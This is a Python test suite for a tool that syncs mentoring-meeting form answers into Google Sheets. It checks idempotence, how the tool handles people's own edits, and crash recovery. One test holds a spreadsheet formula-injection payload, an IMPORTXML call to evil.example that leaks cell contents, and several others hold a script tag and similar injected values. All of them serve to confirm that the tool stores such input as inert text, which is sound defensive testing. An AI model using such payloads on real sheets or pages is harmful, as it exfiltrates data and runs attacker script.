"""The main job, end to end, through the real client libraries and the form's
page.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest

from forms.form_items import items
from sync.admin.check_program import Things
from sync.admin.plan import Deed, ProvisionPlan
from sync.errors import (
    ConfigurationError,
    GoogleError,
    SyncError,
)
from sync.google.drive import FOLDER, FORM, SHEET
from sync.google.sheets import Spreadsheet
from sync.program import declared
from templates import program as books
from templates.formulas import skeleton
from templates.wire import serial
from tests.support.busy_programs import everybody_met
from tests.support.program import ADMIN, COORDINATOR, TODAY, Program, prepared


def test_an_answer_becomes_a_line_in_log_and_a_status(
    program: Program,
) -> None:
    """A mentor logs a meeting on the page; the run counts it and writes it
    down.
    """
    said = program.log(
        "ana@westbrook.example",
        "WES-1 Ana & Sam",
        kind="one-on-one",
        day="2026-11-19",
        minutes=30,
    )
    assert "recorded" in said
    result, calls = program.run()
    assert (len(result.new), result.counted, result.changed) == (1, 1, {"WES"})
    assert calls["sheets.write"] == 2, (
        "the district's sheet, and the program's"
    )
    assert program.row("log", "WES-1", "pair") | {"Code": ""} == {
        **dict.fromkeys(program.values("log")[0], ""),
        "When": serial(date(2026, 11, 19)),
        "Pair": "WES-1 Ana Diaz & Sam Lee",
        "What happened": "one-on-one",
        "Minutes": 30,
        "Counted": "yes",
        "Sent": pytest.approx(serial(date(2026, 11, 20)) + 15 / 24, abs=0.01),
        "Sent by": "mentor",
        "Number": 1,
    }
    status = program.row("status", "WES-1", "pair")
    assert (status["Status"], status["Last met"]) == (
        "Check in",
        serial(date(2026, 11, 19)),
    )
    assert program.row("pairs", "WES-1", "label")["Status"] == "Check in"


def test_a_second_run_writes_nothing(program: Program) -> None:
    """Law 2, for runs: also on a fresh state, which learns from the sheet what
    stands there.
    """
    program.log(
        "ana@westbrook.example",
        "WES-1",
        kind="brief conversation",
        day="2026-11-19",
        minutes=10,
        conversations=3,
    )
    program.run()
    again, calls = program.run()
    assert (
        again.changed,
        calls["sheets.write"],
        calls["forms.write"],
        calls["drive.write"],
    ) == (set(), 0, 0, 0)
    program.state_file.unlink()
    cold, calls = program.run()
    assert (cold.changed, calls["sheets.write"], len(cold.new)) == (
        set(),
        0,
        1,
    )


def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
    """Law 2, for provision: right after the first, and after runs and people
    have been at work.
    """
    program = unprovisioned
    first, _ = program.provision()
    assert len(first.of(Deed.MAKE)) == 7, (
        "a folder, three forms, a district's sheet and the program's two"
    )
    for busy in (False, True):
        if busy:
            _a_day_of_work(program)
        again, calls = program.provision()
        assert (again.of(Deed.MAKE), again.of(Deed.MEND)) == ([], [])
        assert (
            sum(n for kind, n in calls.items() if kind.endswith("write")) == 0
        )


def _a_day_of_work(program: Program) -> None:
    for label in ("WES-1", "WES-2"):
        program.log(
            "ana@westbrook.example",
            label,
            kind="one-on-one",
            day="2026-11-19",
            minutes=30,
        )
    program.run()
    pairs, observations = (
        program.layout.tab("pairs"),
        program.layout.tab("observations"),
    )
    area = {
        "sheetId": pairs.id,
        "startRowIndex": 1,
        "endRowIndex": 9,
        "startColumnIndex": 0,
        "endColumnIndex": 20,
    }
    program.edit(
        {
            "sortRange": {
                "range": area,
                "sortSpecs": [
                    {"dimensionIndex": 1, "sortOrder": "DESCENDING"}
                ],
            }
        },
        who=ADMIN,
    )
    rows = {
        "sheetId": observations.id,
        "dimension": "COLUMNS",
        "startIndex": 3,
        "endIndex": 4,
    }
    program.edit(
        {
            "updateSheetProperties": {
                "properties": {"sheetId": pairs.id, "title": "Our pairs"},
                "fields": "title",
            }
        },
        {"moveDimension": {"source": rows, "destinationIndex": 8}},
        who=ADMIN,
    )
    program.run()


def peoples_cells(program: Program) -> dict[str, list[list[str]]]:
    """Every cell of the people's tabs as entered; a formula without its
    references, which Google moves along.
    """
    tabs = {
        t.key: program.values(t.key, formulas=True)
        for t in program.layout.people
    }
    return {
        key: [[skeleton(str(c)) for c in row] for row in grid]
        for key, grid in tabs.items()
    }


def test_no_run_changes_a_peoples_tab(program: Program) -> None:
    """Law 4: whatever people typed, also between runs, every cell of theirs is
    as they left it.
    """
    program.type("follow_up", 2, "agreed", "call on Friday")
    program.type("pairs", 5, "mentor", "Half A Pair")
    for day in (TODAY, TODAY + timedelta(days=1)):
        program.type("calendar", 40, "note", f"a note of {day}")
        before = peoples_cells(program)
        program.log(
            "ana@westbrook.example",
            "WES-2",
            kind="one-on-one",
            day="2026-11-18",
            minutes=30,
        )
        assert program.run(day)[0].changed == {"WES"}
        assert peoples_cells(program) == before


EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")'


def test_text_from_strangers_is_stored_as_text(program: Program) -> None:
    """Law 5: formulas in a name, a code, a group or an address run nowhere and
    are shown as typed.
    """
    program.type("pairs", 5, "mentor", EVIL)
    program.type("pairs", 5, "mentee", "+1+1")
    program.type("pairs", 5, "mentor_email", "=cmd@evil.example")
    program.log(
        "=x@evil.example",
        EVIL,
        kind="small group",
        day="2026-11-19",
        minutes=30,
        others="=1+1 @SUM(A1) 4",
    )
    program.log(
        "ana@westbrook.example",
        "WES-4",
        kind="one-on-one",
        day="2026-11-18",
        minutes=30,
    )
    program.run()
    status, log = program.layout.tab("status"), program.layout.tab("log")
    for tab in (status, log):
        strangers = {tab.place(c.key) for c in tab.value_columns}
        for line in program.values(tab.key, formulas=True)[tab.header_row :]:
            cells = [
                program_cell(program, tab.id, line, place)
                for place in strangers
                if place < len(line)
            ]
            assert all("formulaValue" not in c for c in cells)
    assert (
        program.row("status", "WES-4", "pair")["Pair"]
        == f"WES-4 {EVIL} & +1+1"
    )
    assert any(
        EVIL in str(c)
        for c in program.values("log")[1] + program.values("log")[2]
    )


def program_cell(
    program: Program, sheet_id: int, line: list[Any], place: int
) -> dict[str, Any]:
    """The stored cell behind a value that was read."""
    tab = program.space.desk.shelf.get(program.lock.sheets["WES"].id).tab(
        sheet_id
    )
    for row in tab.rows.values():
        entered = row.get(place, {}).get("userEnteredValue", {})
        if line[place] in entered.values():
            return dict(entered)
    return {}


def test_a_pages_text_is_escaped(program: Program) -> None:
    """Law 5, for pages: a name that is markup is shown, not obeyed."""
    import requests

    program.type("pairs", 5, "mentor", "<script>alert(1)</script>")
    page = requests.get(
        program.lock.sheets["WES"].url.replace("edit", "edit?gid=103"),
        cookies={"identity": ADMIN},
        timeout=30,
    )
    link = (
        program.lock.responder_uri + "?usp=pp_url&entry.705691649=%3Cscript%3E"
    )
    form = requests.get(link, cookies={"identity": ADMIN}, timeout=30)
    assert "&lt;script&gt;alert" in page.text
    assert "<script>" not in page.text + form.text, (
        "the one script of a page is a file of our own"
    )


busy = prepared(everybody_met)


def questions(program: Program) -> str:
    return "\n".join(program.run()[0].standings[0].questions)


def names(program: Program) -> dict[int, str]:
    return {
        p.pair.number: p.pair.mentor.name
        for p in program.run()[0].standings[0].pairs
    }


def test_a_new_pair_typed_over_an_old_one_is_asked_about(
    busy: Program,
) -> None:
    busy.type("pairs", 3, "mentor", "New Mentor")
    busy.type("pairs", 3, "mentee", "New Mentee")
    assert (
        "2 was Grace Okafor with Luis Silva, and now reads New Mentor with New Mentee"
        in questions(busy)
    )
    assert names(busy)[2] == "Grace Okafor"
    assert "a correction, or a new pair?" in str(busy.values("status")[2][0])
    busy.type("corrections", 2, "repair", "it is the same pair")
    busy.type("corrections", 2, "to", 2)
    assert (questions(busy), names(busy)[2]) == ("", "New Mentor")


def test_a_corrected_spelling_is_taken(busy: Program) -> None:
    busy.type("pairs", 3, "mentor", "Grace Okafor-Hill")
    assert (questions(busy), names(busy)[2]) == ("", "Grace Okafor-Hill")


def test_a_half_sorted_table_is_not_believed(busy: Program) -> None:
    area = {
        "sheetId": 103,
        "startRowIndex": 1,
        "endRowIndex": 4,
        "startColumnIndex": 1,
        "endColumnIndex": 5,
    }
    busy.edit(
        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2}]}}
    )
    before = {1: "Ana Diaz", 2: "Grace Okafor", 3: "Mei Novak"}
    assert names(busy) == before
    assert "was half the table sorted?" in questions(busy)
    area |= {"startColumnIndex": 1}
    busy.edit(
        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1}]}}
    )
    assert (names(busy), questions(busy)) == (before, "")


def test_a_wholly_sorted_table_is_fine(busy: Program) -> None:
    area = {
        "sheetId": 103,
        "startRowIndex": 1,
        "endRowIndex": 9,
        "startColumnIndex": 0,
        "endColumnIndex": 20,
    }
    busy.edit(
        {
            "sortRange": {
                "range": area,
                "sortSpecs": [
                    {"dimensionIndex": 1, "sortOrder": "DESCENDING"}
                ],
            }
        },
        who=ADMIN,
    )
    assert (names(busy)[1], questions(busy)) == ("Ana Diaz", "")
    assert (
        busy.row("pairs", "Ana Diaz", "mentor")["Pair"]
        == "WES-1 Ana Diaz & Sam Lee"
    )


def test_a_deleted_row_stays_listed(busy: Program) -> None:
    rows = {
        "sheetId": 103,
        "dimension": "ROWS",
        "startIndex": 2,
        "endIndex": 3,
    }
    busy.edit({"deleteDimension": {"range": rows}}, who=ADMIN)
    assert (
        "WES-2 Grace Okafor & Luis Silva: the row is missing from Pairs"
        in questions(busy)
    )
    assert names(busy)[2] == "Grace Okafor"
    busy.state_file.unlink()
    assert "the row is missing from Pairs" in questions(busy), (
        "remembered from the sheet itself"
    )


def test_a_copied_row_is_asked_about(busy: Program) -> None:
    source = {
        "sheetId": 103,
        "startRowIndex": 2,
        "endRowIndex": 3,
        "startColumnIndex": 0,
        "endColumnIndex": 20,
    }
    busy.edit(
        {
            "copyPaste": {
                "source": source,
                "destination": source | {"startRowIndex": 6, "endRowIndex": 7},
            }
        },
        who=ADMIN,
    )
    assert "Number 2 is in rows 3 and 7 of Pairs" in questions(busy)
    assert names(busy)[2] == "Grace Okafor"


def test_a_renamed_header_is_accepted_and_a_missing_one_is_named(
    busy: Program,
) -> None:
    busy.type("pairs", 1, "mentor", "Coach", who=ADMIN)
    assert (questions(busy), names(busy)[1]) == ("", "Ana Diaz")
    columns = {
        "sheetId": 103,
        "dimension": "COLUMNS",
        "startIndex": 2,
        "endIndex": 3,
    }
    busy.edit({"deleteDimension": {"range": columns}}, who=ADMIN)
    assert "the column “Mentee” is missing" in questions(busy)
    assert "the column “Mentor” is missing" in questions(busy), (
        "with two gone, neither is a rename"
    )
    assert names(busy)[1] == "Ana Diaz"


def test_a_deleted_tab_is_named_and_printed_again(busy: Program) -> None:
    busy.edit({"deleteSheet": {"sheetId": 106}}, who=ADMIN)
    assert "the tab Calendar: it was deleted" in questions(busy)
    done, _ = busy.provision()
    assert "Westbrook: the tab Calendar, printed again" in done.of(Deed.MEND)
    assert questions(busy) == ""
    assert busy.provision()[0].of(Deed.MEND) == []


def test_a_deleted_schedule_comes_back_with_what_was_planned(
    busy: Program,
) -> None:
    cell = {
        "rows": [
            {"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}
        ],
        "fields": "userEnteredValue",
    }
    busy.edit(
        {
            "updateCells": cell
            | {"start": {"sheetId": 104, "rowIndex": 9, "columnIndex": 3}}
        }
    )
    before = busy.run()[0].standings[0].district.schedule
    busy.edit({"deleteSheet": {"sheetId": 104}}, who=ADMIN)
    assert busy.run()[0].standings[0].district.schedule == before
    busy.provision()
    assert busy.run()[0].standings[0].district.schedule == before
    assert busy.values("schedule")[9][3] == "Tue 2:45"


def test_a_coordinator_cannot_write_where_the_tool_writes(
    busy: Program,
) -> None:
    for tab, column in (
        ("status", "status"),
        ("pairs", "number"),
        ("pairs", "label"),
        ("log", "counted"),
    ):
        with pytest.raises(GoogleError, match="protected cell"):
            busy.type(tab, 6, column, "mine")


def test_lost_formulas_headers_and_protection_are_mended(
    busy: Program,
) -> None:
    for row, column in ((4, "label"), (1, "school")):
        busy.type("pairs", row, column, "", who=ADMIN)
    busy.edit({"deleteProtectedRange": {"protectedRangeId": 10300}}, who=ADMIN)
    done, _ = busy.provision()
    assert done.of(Deed.MEND) == [
        "Westbrook: headers of Pairs",
        "Westbrook: formulas of Pairs",
        "Westbrook: protection of Pairs",
    ]
    assert (
        busy.row("pairs", "Mei Novak", "mentor")["Pair"]
        == "WES-3 Mei Novak & Omar Patel"
    )


def test_a_roster_file_with_mistakes_makes_nothing(
    unprovisioned: Program,
) -> None:
    """Every mistake is named with file, line, value and remedy before anything
    is sent to Google.
    """
    program = unprovisioned
    (program.folder / "rosters" / "WES.csv").write_text(
        "Mentor,Mentee,Mentor e-mail,Starts,Ends\nAna,Sam,not an address,,\nAna,Sam,,2026-10-05,2026-09-01\nLone,,,soon,\nAna,Sam,,,\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigurationError) as caught:
        program.provision()
    said = str(caught.value)
    for words in (
        "line 2: 'not an address'",
        "line 3: Ends (2026-09-01) is before",
        "line 4: there is no mentee",
        "line 4: Starts is 'soon'",
        "line 5: Ana and Sam are already in line 2",
    ):
        assert words in said
    assert program.space.store.db.execute(
        "SELECT count(*) FROM files"
    ).fetchone() == (0,)


def test_an_answer_of_no_district_is_kept_in_sight(
    unprovisioned: Program,
) -> None:
    program = unprovisioned
    folder = program.folder
    rows = (folder / "districts.csv").read_text(encoding="utf-8")
    second = "NOR,Northfield,,2026-08-31,2027-06-18,monthly,\n"
    (folder / "districts.csv").write_text(rows + second, encoding="utf-8")
    program.provision()
    program.log(
        "who@else.example",
        "XYZ-3",
        kind="one-on-one",
        day="2026-11-19",
        minutes=30,
    )
    program.log(
        "ana@westbrook.example",
        "",
        kind="one-on-one",
        day="2026-11-19",
        minutes=30,
    )
    result, _ = program.run()
    assert [a.pair_text for a in result.unplaced] == ["XYZ-3"]
    assert (len(result.new), result.counted) == (2, 1)
    assert len(program.run()[0].unplaced) == 1


def test_a_sheet_that_is_gone_fails_alone(program: Program) -> None:
    """One district's trouble is named; it is the only one here, so the command
    says it.
    """
    lock = program.lock
    lock.sheets["WES"] = replace(lock.sheets["WES"], id="1" + "y" * 43)
    lock.save(program.settings.lock_path)
    with pytest.raises(SyncError, match="not found"):
        program.run()


def test_a_write_whose_answer_was_lost_is_not_repeated(
    program: Program,
) -> None:
    """Every batch is applied and its answer lost: what stands in the sheet is
    looked up, and nothing is doubled.
    """
    program.log(
        "ana@westbrook.example",
        "WES-1",
        kind="one-on-one",
        day="2026-11-19",
        minutes=30,
    )
    applied = program.space.methods["sheets.spreadsheets.batchUpdate"]

    def lose_the_answer(*args: Any, **kwargs: Any) -> Any:
        applied(*args, **kwargs)
        from workspace.errors import Refusal

        raise Refusal(503, "The service is currently unavailable.")

    program.space.methods["sheets.spreadsheets.batchUpdate"] = lose_the_answer
    result, calls = program.run()
    assert (result.changed, calls["sheets.write"]) == ({"WES"}, 2)
    program.space.methods["sheets.spreadsheets.batchUpdate"] = applied
    result, calls = program.run()
    assert (result.changed, calls["sheets.write"]) == (set(), 0)
    assert [row[2] for row in program.values("log")[1:]] == [
        "WES-1 Ana Diaz & Sam Lee"
    ]


def test_the_log_grows_by_what_is_new(program: Program) -> None:
    """Newest first, each once, also when several come between two runs."""
    for hour, day in enumerate((13, 11, 12, 9, 10)):
        sent = datetime(2026, 11, 20, 12 + hour, tzinfo=UTC)
        program.log(
            "ana@westbrook.example",
            "WES-1",
            sent=sent,
            kind="one-on-one",
            day=f"2026-11-{day:02d}",
            minutes=30,
        )
        if hour in (0, 2, 4):
            program.run()
    days = [row[1] for row in program.values("log")[1:]]
    assert days == [serial(date(2026, 11, d)) for d in (10, 9, 12, 11, 13)]


def test_who_sees_what(program: Program) -> None:
    """The sheet opens for its coordinator; a mentor has the form and no more."""
    sheet_id = program.lock.sheets["WES"].id
    assert (
        program.google(COORDINATOR)
        .sheets.metadata(Spreadsheet(sheet_id))["properties"]["title"]
        .startswith("Westbrook")
    )
    with pytest.raises(GoogleError):
        program.google("ana@westbrook.example").sheets.metadata(
            Spreadsheet(sheet_id)
        )


def column(program: Program, tab: str, key: str) -> dict[str, Any]:
    layout = program.layout.tab(tab)
    place = layout.place(key)
    return {
        "sheetId": layout.id,
        "dimension": "COLUMNS",
        "startIndex": place,
        "endIndex": place + 1,
    }


@pytest.mark.whole
@pytest.mark.parametrize(
    ("tab", "key"),
    [
        ("rules", "source"),
        ("calendar", "one_on_one"),
        ("corrections", "answer"),
        ("follow_up", "day"),
        ("observations", "day"),
        ("schedule", "week"),
        ("pairs", "stays"),
    ],
)
def test_a_tab_that_lost_a_column_keeps_its_last_answer_until_it_is_mended(
    busy: Program, tab: str, key: str
) -> None:
    """Nothing is judged by half a tab: what it said before holds, the column
    is named, and provision puts it back.
    """
    busy.type("calendar", 60, "event", "early release")
    busy.type("calendar", 60, "first", serial(date(2026, 12, 2)))
    before = busy.run()[0].standings[0]
    busy.edit(
        {"deleteDimension": {"range": column(busy, tab, key)}}, who=ADMIN
    )
    after = busy.run()[0].standings[0]
    assert (
        "is missing, so what this tab said before still holds"
        in after.questions[0]
    )
    assert (after.district.rules, after.district.calendar, after.pairs) == (
        before.district.rules,
        before.district.calendar,
        before.pairs,
    )
    header = busy.layout.tab(tab).column(key).header
    assert any(
        w.endswith(f"the column {header} of {busy.layout.tab(tab).title}")
        for w in busy.provision()[0].of(Deed.MEND)
    )
    assert busy.provision()[0].of(Deed.MEND) == []
    assert busy.run()[0].standings[0].questions == ()


def test_provision_never_writes_into_a_column_of_somebodys_own(
    busy: Program,
) -> None:
    """Their own notes, moved columns and the cells of the blank schedule are
    as they were.
    """
    pairs, schedule = busy.layout.tab("pairs"), busy.layout.tab("schedule")
    cell = {
        "rows": [
            {"values": [{"userEnteredValue": {"stringValue": "Tue 2:45"}}]}
        ],
        "fields": "userEnteredValue",
    }
    busy.edit(
        {
            "updateCells": cell
            | {
                "start": {
                    "sheetId": schedule.id,
                    "rowIndex": 6,
                    "columnIndex": len(schedule.columns),
                }
            }
        }
    )
    notes = {"sheetId": pairs.id, "dimension": "COLUMNS", "length": 1}
    end = len(pairs.columns)
    text = {
        "rows": [
            {"values": [{"userEnteredValue": {"stringValue": t}}]}
            for t in ("My notes", "mine")
        ],
        "fields": "userEnteredValue",
    }
    busy.edit(
        {"appendDimension": notes},
        {
            "updateCells": text
            | {
                "start": {
                    "sheetId": pairs.id,
                    "rowIndex": 0,
                    "columnIndex": end,
                }
            }
        },
        {"deleteDimension": {"range": column(busy, "pairs", "link")}},
        {
            "moveDimension": {
                "source": column(busy, "schedule", "week"),
                "destinationIndex": 4,
            }
        },
        who=ADMIN,
    )
    busy.provision()
    assert [row[-1] for row in busy.values("pairs")[:2]] == [
        "My notes",
        "mine",
    ]
    assert any("Tue 2:45" in row for row in busy.values("schedule"))
    assert (
        busy.row("pairs", "Ana Diaz", "mentor")["Their link"]
        == "log a meeting"
    )
    assert busy.provision()[0].of(Deed.MEND) == []


def test_a_row_above_the_headers_changes_nothing(busy: Program) -> None:
    before = names(busy)
    busy.edit(
        {
            "insertDimension": {
                "range": {
                    "sheetId": 103,
                    "dimension": "ROWS",
                    "startIndex": 0,
                    "endIndex": 1,
                }
            }
        },
        who=ADMIN,
    )
    assert (names(busy), questions(busy)) == (before, "")
    assert busy.provision()[0].of(Deed.MEND) == []


def test_more_pairs_than_were_printed(unprovisioned: Program) -> None:
    """A roster longer than `pairs` is printed whole, and a second run still
    writes nothing.
    """
    lines = [f"Mentor {n},Mentee {n}," for n in range(70)]
    path = unprovisioned.folder / "rosters" / "WES.csv"
    path.write_text(
        "Mentor,Mentee,Number\n" + "\n".join([*lines, "Ana,Sam,90"]) + "\n",
        encoding="utf-8",
    )
    unprovisioned.provision()
    result, _ = unprovisioned.run()
    assert sorted(p.pair.number for p in result.standings[0].pairs) == [
        *range(1, 71),
        90,
    ]
    assert unprovisioned.run()[0].changed == set()
    path.write_text(
        "Mentor,Mentee,Number\nAna,Sam,3\nBea,Ivo,3\nCy,Di,2.5\n",
        encoding="utf-8",
    )
    with pytest.raises(
        ConfigurationError,
        match=r"(?s)line 4: Number is 2.5.*line 3: Number 3 stands in line 2|line 3: Number 3.*line 4",
    ):
        unprovisioned.provision()


def test_killed_after_every_call_provision_doubles_nothing(
    unprovisioned: Program, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Law 3, for provision: stopped after each single call and begun again, it
    makes everything once.
    """
    from sync.google.calls import Pace

    call = Pace.call
    left = [0]

    class Killed(Exception):
        pass

    def stop_after(self: Any, *args: Any, **kwargs: Any) -> Any:
        answer = call(self, *args, **kwargs)
        left[0] -= 1
        if left[0] == 0:
            raise Killed
        return answer

    monkeypatch.setattr(Pace, "call", stop_after)
    kills = 0
    for n in range(1, 60):
        left[0] = n
        try:
            unprovisioned.provision()
            break
        except Killed:
            kills += 1
    left[0] = 10**6
    assert kills >= 10
    store = unprovisioned.space.store.db
    assert store.execute(
        "SELECT mime, count(*) FROM files GROUP BY mime"
    ).fetchall() == [
        (FOLDER, 1),
        (FORM, 3),
        (SHEET, 3),
    ]
    assert store.execute("SELECT count(*) FROM permissions").fetchone() == (
        4,
    ), "three forms and a coordinator"
    assert unprovisioned.provision()[0] == ProvisionPlan(
        lock=unprovisioned.lock
    )
    assert len(
        unprovisioned.google().forms.get(unprovisioned.lock.form)["items"]
    ) == len(items(declared.form_of(unprovisioned.settings)))


def test_status_tells_and_takes_nothing(busy: Program) -> None:
    """What `status` saw is still new for the run, and a run of one district
    leaves the others' answers new.
    """
    busy.log(
        "ana@westbrook.example",
        "WES-1",
        kind="one-on-one",
        day="2026-11-18",
        minutes=30,
    )
    assert len(busy.run(write=False)[0].new) == 1
    assert [len(busy.run()[0].new) for _ in range(2)] == [1, 0]


def test_a_mentees_wish_reaches_the_admin_where_the_mentor_coordinates(
    program: Program,
) -> None:
    """It stands in no sheet of the district, and in the admin's own."""
    districts = program.folder / "districts.csv"
    text = districts.read_text(encoding="utf-8")
    districts.write_text(
        text.replace(COORDINATOR, f"{COORDINATOR};ana@westbrook.example"),
        encoding="utf-8",
    )
    program.provision()
    program.log(
        "sam@westbrook.example",
        "WES-1",
        kind="one-on-one",
        day="2026-11-18",
        minutes=30,
        also=["contact"],
    )
    result, _ = program.run()
    assert result.summaries["WES"]["withheld"] == [
        {"pair": "WES-1", "by": ["mentee"], "day": "2026-11-20"}
    ]
    assert program.row("log", "WES-1", "pair")["Asks to be contacted"] == ""
    assert program.lock.waiting is not None
    sheet, layout = program.lock.waiting.id, books.waiting_layout()
    grid = program.google().sheets.read(
        Spreadsheet(sheet), {"w": layout.tabs[0].id}
    )["w"]
    assert ["asks to be contacted", "WES-1"] in [row[1:3] for row in grid]
    found = program.does(lambda opened: list(Things(opened).all()))
    said = {f.check: f.message for f in found}
    assert "In WES a coordinator is the mentor of WES-1." in said["contacts"]
